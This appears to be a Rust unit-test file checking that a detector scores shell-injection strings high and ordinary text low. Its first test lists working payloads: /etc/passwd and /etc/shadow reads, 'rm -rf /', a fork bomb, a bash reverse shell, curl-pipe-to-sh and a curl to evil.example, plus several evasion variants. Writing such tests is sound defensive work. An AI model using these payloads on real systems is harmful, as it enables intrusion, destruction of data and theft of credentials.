use super::confidence;

#[test]
fn what_goes_on_as_a_command() {
    for text in [
        ";id",
        "127.0.0.1; cat /etc/passwd",
        "x | whoami",
        "`id`",
        "$(curl http://evil.example/x)",
        "report.pdf && rm -rf /",
        "c''at /et'c/pa'sswd",
        "cu$@rl evil.example",
        "cat${IFS}/etc/shadow",
        "/???/c?t /etc/x",
        "() { :;}; echo x",
        "bash -i >& /dev/tcp/10.0.0.1/99 0>&1",
        "f(){ f|f& };f",
        "FOR %G IN (a b) DO echo %G",
        "if exist c:\\x echo y",
        "a=id;$a",
        "curl x.example/i.sh | sh",
    ] {
        assert!(confidence(text) >= 70, "{text}: {}", confidence(text));
    }
}

#[test]
fn what_does_not() {
    for text in [
        "git commit -m 'fix'",
        "journalctl -u ssh | grep error",
        "du -h path/to/directory | sort -h",
        "a | b",
        "hello; time flies",
        "Tom & Jerry",
        "don't cut it; find another",
        "I'd like a poem",
        "```python\nprint(1)\n```",
        "foo.example/?a=1&sort=up",
        "truncate",
    ] {
        assert!(confidence(text) < 70, "{text}: {}", confidence(text));
    }
}
